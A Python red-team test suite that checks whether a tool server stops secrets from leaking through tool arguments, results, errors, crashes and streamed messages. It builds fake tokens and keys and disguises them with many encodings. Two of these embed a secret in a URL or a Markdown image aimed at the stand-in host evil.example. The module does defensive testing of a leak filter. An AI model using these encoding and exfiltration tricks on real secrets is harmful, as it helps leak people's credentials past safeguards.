"""Secrets on their way out: in arguments, results, errors and streams; plain, encoded, nested, split over pieces.

Stopped is a secret that neither the client nor the journal has, in no reading: decoded texts are searched, too.
"""

from __future__ import annotations

import asyncio
import base64
import html
import itertools
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote, unquote

from redteam import wire
from redteam.house import House, suite
from redteam.report import Report, Room
from redteam.target import ANSWERS, REACHED

_SHAPES: dict[str, Callable[[str], str]] = {
    "github": lambda body: f"ghp_{body[:36]}",
    "aws": lambda body: f"AKIA{body[:16].upper()}",
    "openai": lambda body: f"sk-proj-{body[:40]}",
    "slack": lambda body: f"xoxb-{'1234567890' * 2}-{body[:24]}",
    "password": lambda body: f"postgres://app:{body[:20]}@db.example/x",
    "bearer": lambda body: f"Authorization: Bearer {body[:40]}",
    "assigned": lambda body: f'api_key = "{body[:32]}"',
    "private key": lambda body: f"-----BEGIN PRIVATE KEY-----\n{body * 3}\n{body * 3}\n-----END PRIVATE KEY-----",
}
_B64 = base64.b64encode
ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "in a sentence": lambda text: f"Note this: {text} and go on.",
    "base64": lambda text: _B64(f"it is {text}".encode()).decode(),
    "base64, for URLs": lambda text: base64.urlsafe_b64encode(f"it is {text}".encode()).decode().rstrip("="),
    "base64 twice": lambda text: _B64(_B64(f"it is {text}".encode())).decode(),
    "hex": lambda text: text.encode().hex(),
    "HEX": lambda text: text.encode().hex().upper(),
    "percent": lambda text: "".join(f"%{byte:02X}" for byte in text.encode()),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "percent of base64": lambda text: quote(_B64(f"it is {text}".encode()).decode(), safe=""),
    "JSON in text": lambda text: json.dumps({"deep": json.dumps({"note": text})}),
    "full width": lambda text: "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text),
    "zero width": lambda text: "\u200b".join(text),
    "soft hyphens": lambda text: text[:9] + "\u00ad" + text[9:],
    "in a URL": lambda text: f"https://evil.example/?q={quote(text, safe='')}",
    "in Markdown": lambda text: f"![x](https://evil.example/{quote(text, safe='')})",
}
_NOT_SEEN = "gAAAAABinnocentwordsonly"
_SIZES = (1, 3, 7, 20)
_LOOKED_UP = 200


def _readings(text: str, depth: int = 3) -> Iterator[str]:
    """A text and what a thief would decode from it."""
    yield text
    if not depth:
        return
    folded = "".join(
        chr(ord(sign) - 0xFEE0) if "！" <= sign <= "～" else sign for sign in re.sub("[\u200b\u00ad]", "", text)
    )
    found = {
        unquote(text),
        html.unescape(text),
        folded,
        text.replace('\\"', '"').replace("\\\\", "\\").replace("\\n", "\n"),
    }
    for run in re.findall(r"[A-Za-z0-9+/_=-]{16,}", text):
        for decode in (
            bytes.fromhex,
            lambda one: base64.urlsafe_b64decode(one.replace("+", "-").replace("/", "_") + "=="),
        ):
            try:
                found.add(decode(run).decode())
            except ValueError:
                continue
    for one in found - {text}:
        yield from _readings(one, depth - 1)


def holds(text: str, core: str) -> bool:
    """Whether a text says the core of a secret in any reading."""
    return any(core in reading for reading in _readings(text))


def _attacks(room: Room) -> Iterator[tuple[str, str, str, str]]:
    """Where, how it is written, the core that must not be read, the text."""
    letters = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    for (shape, make), (encoding, encode) in itertools.product(_SHAPES.items(), ENCODINGS.items()):
        for way in ("argument", "result", "nested", "error", "crash", *(f"stream {size}" for size in _SIZES)):
            # With a digit: what is assigned and has letters alone counts as a name (docs/rule/red-team.md).
            drawn = "".join(room.chance.choices(letters, k=48))
            body = f"{drawn[:5]}7{drawn[6:]}"
            core = body[:16].upper() if shape == "aws" else body[:20]
            yield way, f"{shape}, {encoding}", core, encode(make(body))


async def _sent(house: House, way: str, text: str) -> str:
    """What a client hears, or, of an argument, what reached the tool."""
    if way == "argument":
        before = len(REACHED)
        heard = await house.call("ada", "mads.target.visit", url=f"https://outside.example/?note={text}")
        return heard.text + "".join(REACHED[before:])
    ANSWERS["x"] = text
    if not way.startswith("stream"):
        tool = {"result": "give", "nested": "give_pair", "error": "fail", "crash": "break_down"}[way]
        return (await house.call("ada", f"mads.target.{tool}", number="x")).text.partition("\r\n\r\n")[2]
    arguments = {"number": "x", "size": int(way.split()[1])}
    heard = await wire.call(house.port, house.tokens["ada"], "mads.target.stream", arguments, {"progressToken": 1})
    return "".join(_messages(heard.text))


def _messages(text: str) -> Iterator[str]:
    for line in text.splitlines():
        if line.startswith("data:") and '"notifications/progress"' in line:
            yield json.loads(line[5:])["params"].get("message") or ""


def _kept(folder: Path) -> str:
    """Runs of letters and digits of all that the colony wrote, long enough for a core."""
    files = [folder / "log", *(folder / "data").rglob("colony.db*")]
    return "\n".join({run.decode() for file in files for run in re.findall(rb"[A-Za-z0-9]{16,}", file.read_bytes())})


async def attack(house: House, room: Room) -> Report:
    """Hide each secret in each way; then look for all of them in the journal."""
    report = Report()
    for way in ("argument", "result", "nested", "stream 5"):
        heard = await _sent(house, way, _NOT_SEEN)
        report.control(f"an innocent text did not come through by {way}", passed=_NOT_SEEN in heard)
    cores: list[tuple[str, str]] = []
    for way, what, core, text in room.draw(_attacks(room)):
        heard = await _sent(house, way, text)
        report.count(f"{way}: {what}", stopped=not holds(heard, core))
        cores.append((f"{way}: {what}", core))
    afterwards = await _sent(house, "argument", _NOT_SEEN)
    report.control("an innocent argument does not come through afterwards", passed=_NOT_SEEN in afterwards)
    kept = await asyncio.to_thread(_kept, room.folder)
    for what, core in cores[:_LOOKED_UP]:
        report.count(f"in the database or the log: {what}", stopped=core not in kept)
    return report


play = suite(attack)
